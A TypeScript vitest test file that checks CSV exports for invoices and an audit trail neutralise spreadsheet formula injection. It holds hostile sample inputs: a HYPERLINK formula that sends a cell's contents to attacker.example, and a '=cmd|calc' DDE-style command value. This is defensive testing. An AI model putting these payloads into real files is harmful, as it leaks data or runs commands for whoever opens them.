/** CSV exports read by a spreadsheet: a cell a customer or a caller wrote never becomes a formula. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { monthInvoicesCsv } from '../../src/backoffice/ledger-records';
import { auditCsv } from '../../src/console/app';
import { spreadsheetSafe } from '../../src/domain/spreadsheet';

const rows = (csv: string) => parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][];
const EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"詳細")';

describe('CSV exports neutralise formulas', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+81 3 0000', "'+81 3 0000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['株式会社サンプル', '株式会社サンプル'],
    ['a=1', 'a=1'],
  ])('%j → %j', (cell, safe) => expect(spreadsheetSafe(cell)).toBe(safe));

  it("the month's invoices: the customer's name as text, negative amounts still numbers", () => {
    const csv = monthInvoicesCsv({
      period: '2026-06',
      invoices: [],
      total: 0,
      lines: [
        {
          invoiceNumber: 'INV-1',
          contractId: 'C-1',
          customerName: EVIL,
          issuedOn: '2026-07-01',
          dueOn: '2026-07-31',
          lineNo: 1,
          kind: 'outageCredit',
          description: '-credit',
          rule: '第24条 D-12',
          taxable: true,
          taxRatePercent: 10,
          amount: -1_935,
        },
      ],
    });
    const [, line] = rows(csv);
    expect(line![2]).toBe(`'${EVIL}`);
    expect(line![7]).toBe("'-credit");
    expect(line![10]).toBe('-1935');
  });

  it('the audit trail: the actor, the request id and the message as text', () => {
    const csv = auditCsv([
      {
        id: 1,
        at: '2026-12-07T09:00:00.000Z',
        actor: { id: '@evil', role: 'clerk', via: 'console' },
        contractId: 'C-1',
        command: 'pay',
        requestId: '=cmd|calc',
        details: {},
        outcome: 'refused',
        message: '+1 refused',
        decidedAt: null,
      },
    ]);
    const [, line] = rows(csv);
    expect([line![1], line![6], line![8]]).toEqual(["'@evil", "'=cmd|calc", "'+1 refused"]);
  });
});
